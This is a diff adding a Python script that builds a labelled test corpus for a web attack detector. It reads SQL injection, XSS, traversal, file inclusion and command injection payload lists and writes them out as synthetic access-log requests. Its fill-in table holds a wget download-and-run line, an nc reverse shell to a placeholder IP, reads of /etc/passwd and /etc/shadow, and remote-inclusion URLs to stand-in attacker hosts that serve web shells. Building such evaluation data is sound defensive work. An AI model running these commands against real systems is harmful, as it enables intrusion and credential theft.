@@ -1,0 +1,186 @@
+#!/usr/bin/python3
+"""Turn the development corpus into requests, the way attack tools send them.
+
+Writes, into OUTDIR:
+  requests.log   one access-log line per request, LogFormat
+                 '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %{UNIQUE_ID}e'
+                 (the last field is the request id, which comes back in every
+                 record as request_id). Reusable: a live-module or ModSecurity
+                 comparison replays the same request lines and User-Agents.
+  requests.tsv   the index: id, set, category, mode, source (file:line),
+                 target, user agent, payload (backslash-escaped).
+  excluded.tsv   payload-list lines left out of recall through the reviewed
+                 list (test/eval/not-attacks.tsv), with the reason.
+
+Sets: "attack" (payload lists, category from the list's name), "httpparams"
+(the labelled attack rows of httpparams_train.csv), "benign-params" (its norm
+rows as parameter values) and "benign-ua" (popular User-Agents on ordinary
+pages). The NASA log is read as it is by the caller.
+
+Modes: "enc" (payload URL-encoded into ?id=), "raw" (payload as it is, when
+it is a legal request-target byte string), "target" (the line is itself a
+request-target, as in fuzzdb's rfi list).
+"""
+import csv
+import os
+import sys
+import urllib.parse
+
+CATS = [
+    ("patt/SQL_Injection__", "sqli"), ("fuzzdb/sql-injection__", "sqli"),
+    ("patt/XSS_Injection__", "xss"), ("fuzzdb/xss__", "xss"),
+    ("patt/Directory_Traversal__", "lfi"), ("fuzzdb/path-traversal__", "lfi"),
+    ("patt/File_Inclusion__", "lfi"), ("fuzzdb/lfi__", "lfi"),
+    ("fuzzdb/rfi__", "rfi"),
+    ("patt/Command_Injection__", "rce"), ("fuzzdb/os-cmd-execution__", "rce"),
+]
+
+# Placeholders in the lists, filled in rotation with realistic values.
+FILL = {
+    "{cmd}": ["id", "cat /etc/passwd", "uname -a", "whoami",
+              "ping -c 3 127.0.0.1", "wget http://203.0.113.5/x.sh",
+              "nc -e /bin/sh 203.0.113.5 4444", "ls -la /"],
+    "{FILE}": ["etc/passwd", "windows/win.ini", "boot.ini", "etc/shadow",
+               "proc/self/environ", "etc/hosts", "etc/issue"],
+    "XXpathXX": ["http://203.0.113.9/shell.txt?", "http://evil.example.com/c99.txt?",
+                 "https://attacker.example.net/r57.php", "ftp://198.51.100.3/pub/inc.txt",
+                 "http://evil.example.org/id.txt?", "http://198.51.100.20/x?"],
+}
+
+BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
+              "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
+
+
+def category_of(rel):
+    for prefix, cat in CATS:
+        if rel.startswith(prefix):
+            return cat
+    return None
+
+
+def fill(line, counter):
+    for ph, values in FILL.items():
+        while ph in line:
+            line = line.replace(ph, values[counter[ph] % len(values)], 1)
+            counter[ph] += 1
+    return line
+
+
+def payload_lines(path, rel):
+    """(line number, payload) for every payload of one list file."""
+    with open(path, "rb") as f:
+        data = f.read().decode("latin-1")
+    lines = data.split("\n")
+    doc = rel.endswith(".doc.txt")
+    for n, line in enumerate(lines, 1):
+        line = line.rstrip("\r")
+        if doc:
+            # A document: the payloads are its "Exploit String:" lines.
+            if not line.startswith("Exploit String:"):
+                continue
+            line = line[len("Exploit String:"):].strip()
+        if line.strip() == "":
+            continue
+        yield n, line
+
+
+def raw_ok(s):
+    return all(0x21 <= ord(c) <= 0x7e and c not in '"\\#' for c in s)
+
+
+def enc(s):
+    return urllib.parse.quote(s.encode("latin-1"), safe="")
+
+
+def esc(s):
+    return s.encode("latin-1").decode("latin-1").encode("unicode_escape").decode("ascii").replace("\t", "\\t")
+
+
+def load_excluded(path):
+    ex = {}
+    if not os.path.exists(path):
+        return ex
+    with open(path, encoding="latin-1") as f:
+        for n, line in enumerate(f, 1):
+            line = line.rstrip("\n")
+            if not line or line.startswith("#"):
+                continue
+            parts = line.split("\t")
+            if len(parts) != 3 or not parts[2].strip():
+                sys.exit("%s:%d: want FILE<TAB>PAYLOAD<TAB>REASON" % (path, n))
+            payload = parts[1].encode("latin-1").decode("unicode_escape")
+            ex[(parts[0], payload)] = parts[2]
+    return ex
+
+
+def main():
+    corpus, exfile, outdir = sys.argv[1], sys.argv[2], sys.argv[3]
+    os.makedirs(outdir, exist_ok=True)
+    excluded = load_excluded(exfile)
+    used = set()
+    counter = {k: 0 for k in FILL}
+    rows = []
+    exrows = []
+    pdir = os.path.join(corpus, "payloads")
+    for sub in ("patt", "fuzzdb"):
+        for name in sorted(os.listdir(os.path.join(pdir, sub))):
+            rel = sub + "/" + name
+            cat = category_of(rel)
+            if cat is None:
+                continue
+            for n, p in payload_lines(os.path.join(pdir, rel), rel):
+                key = None
+                if (rel, "*") in excluded:
+                    key = (rel, "*")
+                elif (rel, p) in excluded:
+                    key = (rel, p)
+                if key:
+                    used.add(key)
+                    exrows.append((rel, n, p, excluded[key]))
+                    continue
+                q = fill(p, counter)
+                src = "%s:%d" % (rel, n)
+                if cat == "rfi" and q.startswith("/"):
+                    t = "".join(c if raw_ok(c) or c in "#" else enc(c) for c in q)
+                    rows.append(("attack", cat, "target", src, t, BROWSER_UA, p))
+                    continue
+                rows.append(("attack", cat, "enc", src, "/index.php?id=" + enc(q), BROWSER_UA, p))
+                if raw_ok(q):
+                    rows.append(("attack", cat, "raw", src, "/index.php?id=" + q, BROWSER_UA, p))
+    for key in excluded:
+        if key not in used:
+            print("gen_requests: reviewed-list entry matches no payload: %s %r" % key,
+                  file=sys.stderr)
+    hp = {"sqli": "sqli", "xss": "xss", "path-traversal": "lfi", "cmdi": "rce"}
+    with open(os.path.join(pdir, "httpparams_train.csv"), encoding="latin-1", newline="") as f:
+        for n, r in enumerate(csv.DictReader(f), 2):
+            src = "httpparams_train.csv:%d" % n
+            v = r["payload"]
+            if r["attack_type"] == "norm":
+                rows.append(("benign-params", "none", "enc", src, "/search.php?q=" + enc(v), BROWSER_UA, v))
+            elif r["attack_type"] in hp:
+                rows.append(("httpparams", hp[r["attack_type"]], "enc", src, "/index.php?id=" + enc(v), BROWSER_UA, v))
+    with open(os.path.join(corpus, "benign", "popular_user_agents.txt"), encoding="latin-1") as f:
+        for n, ua in enumerate(f, 1):
+            ua = ua.rstrip("\r\n")
+            if ua.strip() and not ua.startswith("#"):
+                rows.append(("benign-ua", "none", "ua", "popular_user_agents.txt:%d" % n,
+                             "/index.html", ua, ua))
+    with open(os.path.join(outdir, "requests.log"), "w", encoding="latin-1") as log, \
+            open(os.path.join(outdir, "requests.tsv"), "w", encoding="latin-1") as idx:
+        idx.write("id\tset\tcategory\tmode\tsource\ttarget\tuser_agent\tpayload\n")
+        for i, (st, cat, mode, src, target, ua, p) in enumerate(rows):
+            rid = "%s-%s-%s-%06d" % (st, cat, mode, i)
+            ual = ua.replace("\\", "\\\\").replace('"', '\\"')
+            log.write('192.0.2.%d - - [27/Nov/2026:00:00:00 +0000] "GET %s HTTP/1.1" 200 512 "-" "%s" %s\n'
+                      % (i % 250 + 1, target, ual, rid))
+            idx.write("\t".join([rid, st, cat, mode, src, target, esc(ua), esc(p)]) + "\n")
+    with open(os.path.join(outdir, "excluded.tsv"), "w", encoding="latin-1") as f:
+        for rel, n, p, why in exrows:
+            f.write("%s:%d\t%s\t%s\n" % (rel, n, esc(p), why))
+    print("gen_requests: %d requests, %d payload lines excluded by review" % (len(rows), len(exrows)),
+          file=sys.stderr)
+
+
+if __name__ == "__main__":
+    main()
